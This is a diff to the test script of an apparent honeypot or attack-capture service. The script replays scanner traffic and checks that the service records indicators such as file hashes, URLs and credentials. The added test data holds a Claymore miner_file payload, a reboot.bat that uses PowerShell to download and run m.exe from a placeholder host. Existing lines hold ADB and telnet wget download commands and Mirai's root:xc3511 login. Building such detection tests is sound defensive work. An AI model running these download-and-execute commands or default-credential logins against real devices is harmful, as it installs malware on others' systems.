@@ -17,7 +17,8 @@ clients' own calls, test/data/jsonrpc-client.cjs and the lines below):
 - curl over IPv6: eth_accounts and eth_blockNumber on one keep-alive connection.
 - A client written segment by segment (tcp_client_edges.py) sends eth_blockNumber, takes its
   answer as lost and sends the request again a second later: the same answer must come back.
-- nc: Claymore's miner_getstat1 and a miner_file command on 3333.
+- nc: Claymore's miner_getstat1 and a miner_file command on 3333 that writes a reboot.bat
+  downloading a program (its hash, size and URL are indicators).
 - curl: Mirai's Realtek UPnP exploit on 52869, carrying a download URL.
 - adb: connect to 5555, a shell command that downloads a script, a push of a small file.
 - telnet: a login as root:xc3511 (Mirai's list), then a download at the shell prompt.
@@ -61,6 +62,8 @@ ADB_SHELL = "cd /data/local/tmp; wget http://192.0.2.66/x.sh"
 PUSHED = b"#!/bin/sh\necho mined\n"
 TELNET_LOGIN = ("root", "xc3511")
 TELNET_COMMAND = "cd /tmp; wget http://192.0.2.66/t.sh"
+# What Claymore's remote manager is told to write (miner_file): it runs at the miner's restart.
+REBOOT_BAT = b"powershell -c \"iwr http://192.0.2.66/m.exe -OutFile m.exe\"\r\nm.exe\r\n"
 TOOLS = ["curl", "nc", "node", "adb", "telnet"]
 
 
@@ -169,7 +172,8 @@ def clients(source_dir, tmp):
               timeout=20)
     got["curl6"] = (r.returncode, r.stdout, r.stderr)
     lines = ('{"id":0,"jsonrpc":"2.0","method":"miner_getstat1"}\n'
-             '{"id":0,"jsonrpc":"2.0","method":"miner_file","params":["reboot.bat","6578"]}\n')
+             '{"id":0,"jsonrpc":"2.0","method":"miner_file","params":["reboot.bat","%s"]}\n'
+             % REBOOT_BAT.hex())
     r = in_ns(SCAN, "nc", "-w", "2", "198.19.0.11", "3333", check=False, capture_output=True,
               input=lines, text=True, timeout=20)
     got["nc"] = (r.returncode, r.stdout)
@@ -315,7 +319,8 @@ def check_metrics(metrics, failures):
                for line in samples):
         failures.append(f"/metrics lacks {want}: {samples}")
     # Two recipient addresses, one etherbase, one pushed file: distinct values by kind.
-    for kind, n in (("eth_recipient", 2), ("eth_etherbase", 1), ("file_sha256", 1),
+    # Two files: the ADB push and Claymore's reboot.bat.
+    for kind, n in (("eth_recipient", 2), ("eth_etherbase", 1), ("file_sha256", 2),
                     ("credential", 1)):
         if f'scanscope_indicator_values{{kind="{kind}"}} {n}' not in metrics:
             failures.append(f"/metrics: no indicator_values of {kind} at {n}")
@@ -356,6 +361,9 @@ def check_events(path, failures):
              (SCANNER, 8545, "eth_recipient", RAW_THIEF),
             (SCANNER, 8545, "eth_etherbase", THIEF), (SCANNER, 3333, "miner_command",
                                                        "miner_file reboot.bat"),
+            (SCANNER, 3333, "file_sha256", hashlib.sha256(REBOOT_BAT).hexdigest()),
+            (SCANNER, 3333, "file_name", f"reboot.bat {len(REBOOT_BAT)} bytes"),
+            (SCANNER, 3333, "url", "http://192.0.2.66/m.exe"),
             (SCANNER, 52869, "url", DOWNLOAD)}
     if not want <= set(indicators):
         failures.append(f"event log indicators lack {sorted(want - set(indicators))}: "
